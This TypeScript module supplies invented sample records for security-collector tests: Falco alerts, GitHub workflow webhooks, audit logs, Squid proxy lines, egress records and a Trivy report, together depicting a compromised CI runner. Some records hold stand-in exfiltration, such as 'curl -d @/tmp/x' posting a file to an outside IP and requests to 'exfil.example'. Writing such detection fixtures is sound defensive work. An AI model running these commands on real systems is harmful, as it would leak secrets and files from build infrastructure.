/** @module One plausible record of each form the collectors read, written for these tests. */

export const falcoAlert = {
  hostname: "node-7",
  output: "09:00:01.123456789: Warning Shell opened | user=root process=bash",
  priority: "Warning",
  rule: "Terminal shell in container",
  source: "syscall",
  tags: ["T1059.004", "container", "mitre_execution"],
  time: "2026-11-24T09:00:01.123456789Z",
  output_fields: {
    "container.id": "3f2a9c81d0be",
    "container.image.repository": "registry.example/ci/runner",
    "container.image.tag": "2.330",
    "evt.time": 1795510801123456789n,
    "evt.type": "execve",
    "evt.res": "SUCCESS",
    "k8s.ns.name": "arc-runners",
    "k8s.pod.name": "linux-x64-runner-8fk2p",
    "k8s.pod.ip": "10.4.7.21",
    "proc.name": "bash",
    "proc.exepath": "/usr/bin/bash",
    "proc.cmdline": "bash -c env",
    "proc.pname": "node",
    "proc.aname[2]": "npm",
    "proc.aname[3]": "Runner.Worker",
    "proc.aname[4]": null,
    "proc.pid": 4211,
    "proc.tty": 34816,
    "user.name": "root",
    "user.uid": 0,
    "user.loginuid": -1,
  } as Record<string, unknown>,
};

/** JSON with bigints as bare digits, which is how Falco writes them. */
export function wire(value: unknown): string {
  return JSON.stringify(value, (_key, item) =>
    typeof item === "bigint" ? `\u0001${item}\u0001` : item,
  ).replace(/"\\u0001(\d+)\\u0001"/g, "$1");
}

export const repository = {
  id: 770011,
  name: "parcel",
  full_name: "acme/parcel",
  private: true,
  owner: { login: "acme", id: 4411 },
  html_url: "https://github.example/acme/parcel",
  default_branch: "main",
  pushed_at: "2026-11-24T08:59:58Z",
};

export const sender = { login: "mara", id: 9042, type: "User" };

export const workflowJob = {
  action: "in_progress",
  workflow_job: {
    id: 60123456789,
    run_id: 21987654321,
    run_attempt: 2,
    workflow_name: "nightly",
    name: "build (linux)",
    status: "in_progress",
    conclusion: null,
    head_sha: "4be1c0ffee4be1c0ffee4be1c0ffee4be1c0ffee",
    head_branch: "main",
    labels: ["linux-x64"],
    runner_id: 311,
    runner_name: "linux-x64-runner-8fk2p",
    runner_group_id: 3,
    runner_group_name: "arc",
    created_at: "2026-11-24T08:58:00Z",
    started_at: "2026-11-24T08:59:00Z",
    completed_at: null,
    html_url: "https://github.example/acme/parcel/actions/runs/21987654321/job/5",
    steps: [
      {
        name: "Set up job",
        number: 1,
        status: "completed",
        conclusion: "success",
        started_at: "2026-11-24T08:59:00Z",
        completed_at: "2026-11-24T08:59:02Z",
      },
      {
        name: "Run npm ci",
        number: 2,
        status: "queued",
        conclusion: null,
        started_at: null,
        completed_at: null,
      },
    ],
  },
  repository,
  organization: { login: "acme", id: 4411 },
  sender,
};

export const workflowRun = {
  action: "completed",
  workflow_run: {
    id: 21987654321,
    name: "nightly",
    path: ".github/workflows/nightly.yml@refs/heads/main",
    event: "pull_request_target",
    status: "completed",
    conclusion: "timed_out",
    head_branch: "patch-1",
    head_sha: "4be1c0ffee4be1c0ffee4be1c0ffee4be1c0ffee",
    head_repository: { id: 990099, full_name: "stranger/parcel" },
    run_number: 88,
    run_attempt: 1,
    created_at: "2026-11-24T08:00:00Z",
    run_started_at: "2026-11-24T08:00:05Z",
    updated_at: "2026-11-24T08:10:00Z",
    html_url: "https://github.example/acme/parcel/actions/runs/21987654321",
    actor: { login: "stranger" },
    triggering_actor: { login: "mara" },
    pull_requests: [],
    referenced_workflows: [{ path: "acme/shared/.github/workflows/build.yml@v1" }],
  },
  repository,
  sender,
};

export const push = {
  ref: "refs/heads/main",
  before: "1".repeat(40),
  after: "2".repeat(40),
  created: false,
  deleted: false,
  forced: true,
  commits: [
    {
      author: { email: "m@acme.example" },
      added: ["a.ts"],
      modified: [".github/workflows/nightly.yml"],
      removed: [],
    },
    {
      author: { email: "m@acme.example" },
      added: ["a.ts", "b.ts"],
      modified: [],
      removed: ["c.ts"],
    },
  ],
  head_commit: {
    message: "Fix",
    timestamp: "2019-01-01T00:00:00Z",
    committer: { name: "Mara", username: "mara" },
  },
  pusher: { name: "mara" },
  repository: { ...repository, pushed_at: 1795510798 },
  sender,
};

export const preparedJob = {
  "@timestamp": 1795510745102,
  _document_id: "Qk3XoecTsz6kAS-87bAEzQ",
  action: "workflows.prepared_workflow_job",
  actor: "",
  actor_id: 9042,
  actor_ip: "198.51.100.7",
  business: "acme-inc",
  created_at: 1795510745102,
  org: "acme",
  org_id: 4411,
  repo: "acme/parcel",
  repo_id: 770011,
  workflow_run_id: 21987654321,
  job_name: "build (linux)",
  job_workflow_ref: "acme/parcel/.github/workflows/nightly.yml@refs/heads/main",
  secrets_passed: ["NPM_TOKEN", "DEPLOY_KEY"],
  environment_name: "production",
  is_hosted_runner: false,
  runner_labels: ["linux-x64"],
  runner_name: "linux-x64-runner-8fk2p",
  runner_id: 311,
  runner_group_name: "arc",
  user: "",
  user_id: 0,
};

export const squidNative =
  "1795510804.820   5003 10.4.7.21 TCP_DENIED/403 3467 CONNECT exfil.example:443 - HIER_NONE/- text/html";
export const squidFirewall =
  '1795510804.820 10.4.7.21:42054 api.example:443 203.0.113.9:443 1.1 CONNECT 200 TCP_TUNNEL:HIER_DIRECT api.example:443 "curl/8 \\"x\\""';
export const squidCommon =
  '10.4.7.21 - mara [24/Nov/2026:09:00:04 +0000] "GET http://192.0.2.8/a?b HTTP/1.1" 200 331 TCP_MISS:HIER_DIRECT';
export const squidCombined =
  '10.4.7.21 - - [24/Nov/2026:10:00:04 +0100] "POST http://exfil.example/up HTTP/1.1" 403 75 "-" "e"vil" TCP_MISS:HIER_DIRECT "x" TCP_DENIED:HIER_NONE';
export const squidJson = {
  ts: 1795510804.82,
  client: "10.4.7.21",
  client_port: 42054,
  method: "CONNECT",
  url: "api.example:443",
  host: "api.example:443",
  dest: "203.0.113.9:443",
  status: 200,
  decision: "TCP_TUNNEL:HIER_DIRECT",
  bytes_out: 1204,
  bytes_in: 9331,
  duration_ms: 1500,
  user: "-",
  ua: "curl/8",
  site: "eu-1",
};
export const hardenConnection = {
  ipAddress: "203.0.113.9",
  port: "443",
  domainName: "api.example.",
  timestamp: "2026-11-24T09:00:04.123456Z",
  tool: {
    name: "curl",
    sha256: "aa",
    parent: { name: "bash", sha256: "bb", parent: { name: "node", sha256: "cc", parent: null } },
  },
  status: "",
  matched_policy: "default",
  reason: "allowed endpoint",
};
export const hardenLookup = {
  domainName: "api.example.",
  ipAddress: "203.0.113.9",
  timestamp: "2026-11-24T09:00:03Z",
  matched_policy: "",
  reason: "",
};
export const genericEgress = {
  time: "2026-11-24T09:00:05.250Z",
  runner: "linux-x64-runner-8fk2p",
  method: "POST",
  url: "http://203.0.113.80/collect",
  bytes_out: 48211,
  bytes_in: 12,
  status: 200,
  decision: "allowed",
  process: "curl",
  command: "curl -d @/tmp/x http://203.0.113.80/collect",
  rack: { row: 3 },
};

export const trivyReport = {
  SchemaVersion: 2,
  Trivy: { Version: "0.74.0" },
  ReportID: "019b0000-aaaa-7000-8000-000000000001",
  CreatedAt: "2026-11-24T09:05:00.000000005Z",
  ArtifactName: "registry.example/acme/parcel:1.4",
  ArtifactType: "container_image",
  Metadata: {
    OS: { Family: "alpine", EOSL: true },
    ImageID: "sha256:11",
    RepoTags: ["registry.example:5000/acme/parcel:1.4"],
    RepoDigests: ["registry.example:5000/acme/parcel@sha256:22"],
  },
  Results: [
    {
      Target: "package-lock.json",
      Class: "lang-pkgs",
      Type: "npm",
      Vulnerabilities: [
        {
          VulnerabilityID: "CVE-2026-0001",
          PkgName: "left",
          PkgIdentifier: { PURL: "pkg:npm/left@1.0.0" },
          InstalledVersion: "1.0.0",
          FixedVersion: ">= 1.0.1, < 2",
          Status: "fixed",
          Severity: "CRITICAL",
          SeveritySource: "ghsa",
          CVSS: { nvd: { V3Score: 5 }, ghsa: { V3Score: 9.8 } },
        },
        {
          VulnerabilityID: "CVE-2026-0001",
          PkgName: "right",
          PkgIdentifier: { PURL: "pkg:npm/right@1.0.0" },
          InstalledVersion: "1.0.0",
          Severity: "LOW",
        },
      ],
      ExperimentalModifiedFindings: [
        {
          Type: "vulnerability",
          Status: "ignored",
          Source: ".trivyignore",
          Finding: { VulnerabilityID: "CVE-2026-0002" },
        },
      ],
    },
    {
      Target: "Dockerfile",
      Class: "config",
      Type: "dockerfile",
      Misconfigurations: [
        {
          Type: "Dockerfile Security Check",
          ID: "DS-0002",
          Title: "root",
          Severity: "HIGH",
          Status: "FAIL",
          CauseMetadata: { StartLine: 4 },
        },
        { Type: "Dockerfile Security Check", ID: "DS-0003", Severity: "HIGH", Status: "PASS" },
        { Type: "Dockerfile Security Check", ID: "DS-0004", Severity: "HIGH", Status: "EXCEPTION" },
      ],
    },
    {
      Target: "deploy.sh",
      Class: "secret",
      Secrets: [
        {
          RuleID: "npm-token",
          Category: "npm",
          Severity: "HIGH",
          Title: "token",
          StartLine: 3,
          Match: "x=****",
        },
      ],
    },
    {
      Target: "lib",
      Class: "license",
      Licenses: [{ Severity: "MEDIUM", Category: "restricted", PkgName: "left", Name: "GPL-3.0" }],
    },
  ],
};

export const registryEnvelope = {
  events: [
    {
      id: "5c1b8a10-0000-4000-8000-000000000001",
      timestamp: "2026-11-24T09:07:00.123456789Z",
      action: "push",
      target: {
        mediaType: "application/vnd.oci.image.manifest.v1+json",
        digest: "sha256:33",
        size: 708,
        repository: "acme/parcel",
        tag: "1.4",
        url: "https://registry.example/v2/acme/parcel/manifests/sha256:33",
      },
      request: {
        id: "r1",
        addr: "10.4.7.21:50112",
        host: "registry.example:5000",
        method: "PUT",
        useragent: "docker/27",
      },
      actor: { name: "ci-push" },
      source: { addr: "registry-0:5000", instanceID: "i1" },
    },
    {
      id: "5c1b8a10-0000-4000-8000-000000000002",
      timestamp: "2026-11-24T09:07:01Z",
      action: "mount",
      target: { digest: "sha256:44", repository: "acme/parcel", fromRepository: "acme/base" },
      request: { addr: "[2001:db8::7]:50112" },
    },
  ],
};
